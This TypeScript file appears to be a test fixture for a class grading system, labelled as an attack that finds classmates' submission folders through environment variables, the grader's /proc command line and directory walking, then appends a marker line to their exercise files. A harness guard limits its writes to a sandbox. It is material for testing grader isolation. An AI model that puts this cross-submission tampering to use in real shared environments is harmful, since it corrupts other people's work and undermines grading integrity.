// Attack: writes to classmates' hand-ins while the class is graded. They are found through the
// grader's environment (any variable that holds a JSON list of folders), the grader's command line, a guess, and by walking up from this
// file to the class folder. Every exercise file of every classmate gets a line appended.
import { existsSync, lstatSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

/** Test harness guard (not part of the attack): touch nothing outside the test's own temp folder. */
const mine = (path: string): boolean => resolve(path).startsWith('{{SANDBOX}}/');
const MARK = ['hostile', '{{NAME}}'].join(':');
const me = resolve(fileURLToPath(import.meta.url), '../../..');

const classes = new Set<string>(['{{CLASS}}', dirname(me)]);
for (const value of Object.values(process.env)) {
  try {
    const listed: unknown = JSON.parse(value ?? '');
    if (Array.isArray(listed)) for (const target of listed) if (typeof target === 'string') classes.add(resolve(target, '../..'));
  } catch {
    // not a list
  }
}
try {
  const grader = readFileSync(`/proc/${process.ppid}/cmdline`, 'utf8').split('\0');
  const at = grader.findIndex((arg) => arg.endsWith('grade.ts'));
  if (at !== -1 && grader[at + 1] !== undefined) classes.add(resolve(grader[at + 1] as string));
} catch {
  // no /proc, or not allowed
}

function* exerciseFiles(dir: string, depth = 0): Generator<string> {
  let entries: string[] = [];
  try {
    entries = readdirSync(dir);
  } catch {
    return;
  }
  for (const name of entries) {
    const path = join(dir, name);
    try {
      const stat = lstatSync(path);
      if (stat.isDirectory() && name !== 'node_modules' && depth < 5) yield* exerciseFiles(path, depth + 1);
      else if (stat.isFile() && /lessons\/\d\d-[^/]+\/[^/]+\.ts$/.test(path)) yield path;
    } catch {
      // gone
    }
  }
}
for (const folder of classes) {
  if (!existsSync(folder)) continue;
  for (const classmate of readdirSync(folder).map((name) => join(folder, name))) {
    if (classmate === me || !mine(classmate)) continue;
    for (const file of exerciseFiles(classmate)) {
      try {
        writeFileSync(file, `${readFileSync(file, 'utf8')}\n// ${MARK}\n`);
      } catch {
        // not allowed
      }
    }
  }
}

// The rest of the file is the shipped stub of lesson 01 (attacks.ts appends it).
